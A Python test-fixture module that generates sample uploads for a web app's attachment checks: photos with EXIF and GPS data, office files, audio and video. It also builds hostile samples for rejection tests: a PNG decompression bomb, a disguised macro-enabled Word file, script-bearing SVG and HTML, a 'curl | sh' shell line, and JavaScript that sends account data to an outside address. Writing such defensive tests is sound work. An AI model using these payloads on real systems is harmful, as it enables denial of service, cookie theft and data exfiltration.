"""Real files of every kind the attachment checks meet, made in code (Pillow, python-docx, openpyxl, ffmpeg)."""

import io
import shutil
import struct
import subprocess
import zipfile
import zlib

import docx
import openpyxl
import pillow_heif
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

FFMPEG = shutil.which("ffmpeg")
GPS_LATITUDE = 0x8825  # EXIF GPSInfo


def upload(name: str, content: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    """As a browser sends it: the declared type is whatever the phone says, and is never trusted."""
    return SimpleUploadedFile(name, content, content_type=content_type)


def photo(size=(400, 300), *, orientation: int | None = None, gps: bool = False, mode="RGB", fmt="JPEG",
          color=(200, 30, 30)) -> bytes:
    image = Image.new(mode, size, color if mode == "RGB" else (*color, 128))
    image.paste((20, 20, 220) if mode == "RGB" else (20, 20, 220, 255), (0, 0, size[0] // 2, size[1] // 4))
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    if orientation:
        exif[0x0112] = orientation
    if gps:
        exif[GPS_LATITUDE] = {1: "N", 2: (39.0, 54.0, 27.0), 3: "E", 4: (116.0, 23.0, 5.0)}
    out = io.BytesIO()
    image.save(out, fmt, exif=exif.tobytes()) if fmt in {"JPEG", "WEBP", "PNG"} else image.save(out, fmt)
    return out.getvalue()


def big_photo(megabytes: float = 5.0) -> bytes:
    """A phone-sized JPEG (4032×3024) of about `megabytes`: noise compresses badly, like a real photo."""
    import os

    width, height = 4032, 3024
    noise = Image.frombytes("L", (width // 4, height // 4), os.urandom(width * height // 16)).resize((width, height))
    mirrored = noise.transpose(Image.Transpose.FLIP_LEFT_RIGHT)
    image = Image.merge("RGB", (noise, noise.rotate(90, expand=False), mirrored))
    for quality in (95, 90, 80, 70):
        out = io.BytesIO()
        image.save(out, "JPEG", quality=quality)
        if out.tell() <= megabytes * 1024 * 1024 * 1.2:
            break
    return out.getvalue()


def heic(size=(320, 240)) -> bytes:
    image = Image.new("RGB", size, (10, 160, 60))
    heif = pillow_heif.from_pillow(image)
    out = io.BytesIO()
    heif.save(out, quality=70)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_bomb(width=100_000, height=100_000) -> bytes:
    """A few hundred bytes that declare 10 gigapixels: decoding it would take the server down."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    body = zlib.compress(b"\x00" * (width + 1) * 4, 9)  # a few rows of zeros: the rest is never read
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def pdf() -> bytes:
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
            b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n"
            b"trailer<</Root 1 0 R>>\n%%EOF\n")


def docx_file(text="调研报告：产业扶贫") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx_file() -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["县", "脱贫户"])
    book.active.append(["甲县", 1200])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _zip(parts: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return out.getvalue()


def _content_types(main: str) -> str:
    return ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/main.xml" ContentType="{main}"/></Types>')


def pptx_file() -> bytes:
    main = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    return _zip({"[Content_Types].xml": _content_types(main), "ppt/presentation.xml": "<p:presentation/>",
                 "_rels/.rels": "<Relationships/>"})


def docm_renamed_docx() -> bytes:
    """A macro-enabled Word file called .docx: the zip says macroEnabled, not the plain document."""
    main = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return _zip({"[Content_Types].xml": _content_types(main), "word/document.xml": "<w:document/>",
                 "word/vbaProject.bin": "macro", "_rels/.rels": "<Relationships/>"})


SVG = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b'<rect width="9" height="9"/></svg>')
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid | sh\n"
JAVASCRIPT = b"fetch('/accounts/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t));\n"


def ffmpeg(*args: str, suffix: str) -> bytes:
    """Sound (or video) made by ffmpeg, as a phone would record it."""
    import tempfile
    from pathlib import Path

    with tempfile.TemporaryDirectory() as folder:
        target = Path(folder) / f"out.{suffix}"
        subprocess.run([FFMPEG, "-nostdin", "-v", "error", "-y", *args, str(target)], check=True, timeout=120)
        return target.read_bytes()


def webm_voice(seconds: float = 2) -> bytes:
    """What Chrome's MediaRecorder sends: Opus in WebM."""
    return ffmpeg("-f", "lavfi", "-i", f"sine=frequency=440:duration={seconds}", "-c:a", "libopus", "-b:a", "32k",
                  suffix="webm")


def mp4_voice(seconds: float = 2) -> bytes:
    """What Safari's MediaRecorder sends: AAC in MP4."""
    return ffmpeg("-f", "lavfi", "-i", f"sine=frequency=330:duration={seconds}", "-c:a", "aac", "-b:a", "64k",
                  "-f", "mp4", suffix="mp4")


def mp3_voice(seconds: float = 2) -> bytes:
    return ffmpeg("-f", "lavfi", "-i", f"sine=frequency=550:duration={seconds}", "-c:a", "libmp3lame", suffix="mp3")


def video(seconds: float = 1) -> bytes:
    return ffmpeg("-f", "lavfi", "-i", f"testsrc=size=160x120:rate=10:duration={seconds}", "-f", "lavfi", "-i",
                  f"sine=duration={seconds}", "-shortest", "-c:v", "libx264", "-pix_fmt", "yuv420p", "-c:a", "aac",
                  suffix="mp4")
